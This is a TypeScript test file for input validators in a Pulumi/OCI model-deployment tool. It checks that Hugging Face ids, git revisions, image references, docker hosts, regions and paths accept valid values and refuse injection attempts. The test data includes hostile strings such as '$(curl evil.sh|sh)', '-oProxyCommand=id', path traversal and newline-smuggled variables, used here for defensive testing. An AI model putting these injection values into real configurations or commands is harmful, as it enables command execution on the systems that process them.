// The allow-list grammars: for each, values it must accept, and hostile ones it must refuse
// (command substitution, separators, backticks, newlines, option-looking values, `..`), first as pure
// functions, then through the stack's parse, where the refusal names the key.

import assert from "node:assert/strict";
import { describe, test } from "node:test";

import {
  availabilityDomainProblem,
  dockerHostProblem,
  environmentValueProblem,
  type Grammar,
  huggingFaceIdProblem,
  imageReferenceProblem,
  localPathProblem,
  regionProblem,
  revisionProblem,
  stackNameProblem,
  suggestRegion,
  suggestStackName,
} from "../components/config/grammars";
import { OCI_REGIONS } from "../components/config/oci-regions";
import { sdkRegionIds } from "../operations/oci-client";
import { displayKey, quoted, shellWord } from "../components/config/quoting";
import { parse } from "./support/stack-fixtures";

const HOSTILE = [
  "$(id)",
  "a;id",
  "`id`",
  "a\nb",
  "-oProxyCommand=id",
  "../etc",
  "a|b",
  "a&&b",
  "$HOME",
  "a b'c",
];
const DIGEST = `sha256:${"0123456789abcdef".repeat(4)}`;

function accepts(grammar: Grammar, values: readonly string[]): void {
  for (const value of values) assert.equal(grammar(value), undefined, `${JSON.stringify(value)} must pass`);
}

function refuses(grammar: Grammar, values: readonly string[]): void {
  for (const value of values)
    assert.ok(grammar(value) !== undefined, `${JSON.stringify(value)} must be refused`);
}

describe("grammars", () => {
  test("Hugging Face id: owner/name as huggingface_hub validates it", () => {
    accepts(huggingFaceIdProblem, [
      "tiiuae/falcon-7b-instruct",
      "meta-llama/Llama-3.1-8B-Instruct",
      "a/b.c_d",
    ]);
    refuses(huggingFaceIdProblem, [
      ...HOSTILE,
      "falcon-7b",
      "a/b/c",
      "-a/b",
      "a/b-",
      "a--b/c",
      "a/b..c",
      "a/b.git",
      `a/${"x".repeat(97)}`,
    ]);
  });

  test("revision: a commit or a git ref name, never a shell word", () => {
    accepts(revisionProblem, ["main", "v1.0", "refs/pr/7", "release/2024-01", "0".repeat(40), "a_b-c.d"]);
    refuses(revisionProblem, [
      ...HOSTILE,
      "main;id",
      "-main",
      ".hidden",
      "a/.b",
      "a..b",
      "a//b",
      "a/",
      "a.lock",
      "a.",
      "a@{1}",
      "a~1",
      "a^",
      "a:b",
      "a*",
      "a[1]",
      "a\\b",
      "x".repeat(256),
    ]);
  });

  test("image reference: registry host, repository, tag, sha256 digest", () => {
    accepts(imageReferenceProblem, [
      "nvcr.io/nvidia/tritonserver:25.04-trtllm-python-py3",
      `nvcr.io/nvidia/tritonserver:25.04-trtllm-python-py3@${DIGEST}`,
      `iad.ocir.io/ns/repo@${DIGEST}`,
      "localhost:5000/triton:25.04-trtllm-python-py3",
    ]);
    refuses(imageReferenceProblem, [
      ...HOSTILE,
      "nvidia/tritonserver:25.04-trtllm-python-py3",
      "nvcr.io/nvidia/tritonserver",
      "$(id).io/nvidia/tritonserver:25.04",
      "nvcr.io/nvidia/tritonserver:25.04;id",
      "nvcr.io/nvidia/tritonserver:25.04@sha256:$(id)",
      "nvcr.io/nvidia/tritonserver:25.04@sha256:abc",
      `nvcr.io/nvidia/tritonserver:25.04@md5:${"0".repeat(64)}`,
      "nvcr.io/NVIDIA/tritonserver:25.04",
      "-nvcr.io/nvidia/tritonserver:25.04",
      "nvcr.io/../tritonserver:25.04",
    ]);
  });

  test("docker.host: unix socket, tcp host:port, ssh user@host[:port], nothing option-like", () => {
    accepts(dockerHostProblem, [
      "unix:///var/run/docker.sock",
      "tcp://10.0.0.5:2376",
      "tcp://docker.example.com:2375",
      "ssh://opc@10.0.0.5",
      "ssh://opc@builder.example.com:2222",
    ]);
    refuses(dockerHostProblem, [
      ...HOSTILE,
      "ssh://-oProxyCommand=id@host",
      "ssh://opc@-oProxyCommand=id",
      "ssh://-oProxyCommand=id",
      "ssh://10.0.0.5",
      "ssh://opc@host:99999",
      "ssh://opc@host:$(id)",
      "ssh://o pc@host",
      "tcp://10.0.0.5",
      "tcp://10.0.0.5:2376;id",
      "tcp://$(id):2376",
      "unix://relative.sock",
      "unix:///var/../run/docker.sock",
      "unix:///var/run/$(id)",
      "http://10.0.0.5:2375",
      "opc@10.0.0.5",
    ]);
  });

  test("availability domain: <prefix>:<REGION>-AD-<n>", () => {
    accepts(availabilityDomainProblem, ["Uocm:PHX-AD-1", "kIdk:US-ASHBURN-AD-3", "EMIr:EU-FRANKFURT-1-AD-2"]);
    refuses(availabilityDomainProblem, [
      ...HOSTILE,
      "PHX-AD-1",
      "Uocm:PHX-AD-1;id",
      "Uocm:phx-ad-1",
      ":PHX-AD-1",
    ]);
  });

  test("region: only OCI's region identifiers, with the one meant for a typo", () => {
    accepts(regionProblem, ["us-ashburn-1", "eu-frankfurt-1", "us-gov-ashburn-1"]);
    refuses(regionProblem, [...HOSTILE, "us-ashburn", "US-ASHBURN-1", "mars-north-1"]);
    assert.equal(suggestRegion("us-ashburm-1"), "us-ashburn-1");
    assert.equal(suggestRegion("eu-frankfort-1"), "eu-frankfurt-1");
    assert.match(regionProblem("us-ashbrun-1") ?? "", /did you mean "us-ashburn-1"\?/);
    assert.equal(suggestRegion("us-ashburn-1"), undefined);
  });

  test("the region list is the installed OCI SDK's, region for region", () => {
    assert.deepEqual([...OCI_REGIONS].sort(), sdkRegionIds().sort());
  });

  test("stack name: Pulumi's rule, with a suggestion for spaces and typos", () => {
    accepts(stackNameProblem, ["dev", "prod", "feature-x_1.2", "a".repeat(100)]);
    refuses(stackNameProblem, [...HOSTILE, "my stack", "", "a".repeat(101), "-dev", "org/dev", "dev\n"]);
    assert.equal(suggestStackName("my stack"), "my-stack");
    assert.equal(suggestStackName(" dev "), "dev");
    assert.equal(suggestStackName("prdo", ["dev", "prod"]), "prod");
    assert.equal(suggestStackName("$(id)"), "id");
  });

  test("local path: plain characters, no .. component, not an option, not ~", () => {
    accepts(localPathProblem, ["/models/falcon-7b", "engines/falcon 7b", "./out/engine@v2", "C:/models"]);
    refuses(localPathProblem, [...HOSTILE, "~/models", "/a/../b", "..", "a\tb", "a\0b", "a*"]);
  });

  test("environment value: printable text, no control character", () => {
    accepts(environmentValueProblem, ["info", "a b; c", "$(id)"]);
    refuses(environmentValueProblem, ["a\nb", "a\rb", "a\0b", "\u001b[31m"]);
  });
});

describe("quoting", () => {
  test("values in messages are JSON; made-up keys are quoted; plain ones stay bare", () => {
    assert.equal(quoted("a\nb"), '"a\\nb"');
    assert.equal(quoted(undefined), "(not set)");
    assert.equal(displayKey("model.revision"), "model.revision");
    assert.equal(displayKey("x\ny"), '"x\\ny"');
  });

  test("a suggested command holds a value as one shell word", () => {
    assert.equal(shellWord("tiiuae/falcon-7b"), "tiiuae/falcon-7b");
    assert.equal(shellWord("$(id)"), "'$(id)'");
    assert.equal(shellWord("it's"), "'it'\\''s'");
    assert.equal(shellWord("-rf"), "'-rf'");
  });
});

describe("grammars through the parse", () => {
  const cases: [string, string][] = [
    ["model.huggingFaceId", "tiiuae/falcon-7b;id"],
    ["model.revision", "$(curl evil.sh|sh)"],
    ["model.revision", "main\nHF_TOKEN=x"],
    ["model.localDir", "../../etc"],
    ["engine.prebuiltDir", "-rf"],
    ["build.availabilityDomain", "Uocm:PHX-AD-1`id`"],
    ["image.source", "nvcr.io/nvidia/tritonserver:25.04-trtllm-python-py3@sha256:$(id)"],
    ["docker.host", "ssh://-oProxyCommand=touch /tmp/x@host"],
  ];
  for (const [key, value] of cases) {
    test(`${key} = ${JSON.stringify(value)} is refused naming ${key}`, () => {
      const errors = parse({ [key]: value }).errors;
      const error = errors.find((e) => e.key === key);
      assert.ok(error, `no error for ${key}: ${JSON.stringify(errors)}`);
      assert.equal(error.value, value);
    });
  }

  test("an environment value with a newline is refused under its variable", () => {
    const errors = parse({ "deployment.environment": { LOG_LEVEL: "info\nX=1" } }).errors;
    assert.ok(errors.some((e) => e.key === "deployment.environment.LOG_LEVEL"));
  });

  test("a region typo names oci:region and the region meant", () => {
    const errors = parse({}, { region: "us-ashburm-1" }).errors;
    const error = errors.find((e) => e.key === "oci:region");
    assert.ok(error);
    assert.match(error.message, /did you mean "us-ashburn-1"/);
    assert.equal(error.fix, "pulumi config set oci:region us-ashburn-1");
  });
});
